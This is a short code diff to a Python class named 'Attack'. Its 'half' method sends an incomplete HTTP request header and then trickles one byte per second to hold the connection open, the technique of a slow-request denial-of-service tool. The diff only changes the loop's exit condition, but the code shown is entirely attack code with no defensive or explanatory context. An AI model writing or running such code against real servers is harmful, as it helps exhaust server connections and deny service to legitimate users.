@@ -51,7 +51,7 @@ class Attack:
 
     async def half(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
         writer.write(b"GET / HTTP/1.1\r\nX-Half: ")
-        while time.monotonic() < self.end and not reader.at_eof():
+        while time.monotonic() < self.end and not writer.transport.is_closing():
             writer.write(b"y")
             await asyncio.sleep(1)
 
